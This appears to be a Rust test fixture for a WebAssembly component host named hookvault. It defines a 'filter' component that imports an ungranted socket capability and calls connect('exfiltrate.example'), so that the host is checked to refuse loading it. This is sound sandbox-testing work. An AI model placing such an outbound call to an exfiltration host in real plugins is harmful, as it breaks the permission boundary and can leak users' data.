//! A filter-shaped component that asks for a capability hookvault never
//! grants: `evil:net/socket`. The host must refuse to load it, naming that
//! import, before it runs anything.

wit_bindgen::generate!({
    inline: r#"
        package evil:net@0.1.0;

        interface socket {
            connect: func(host: string) -> bool;
        }

        world ungranted {
            import socket;
            export filter: func() -> bool;
        }
    "#,
    world: "ungranted",
});

struct Ungranted;

impl Guest for Ungranted {
    fn filter() -> bool {
        evil::net::socket::connect("exfiltrate.example")
    }
}

export!(Ungranted);
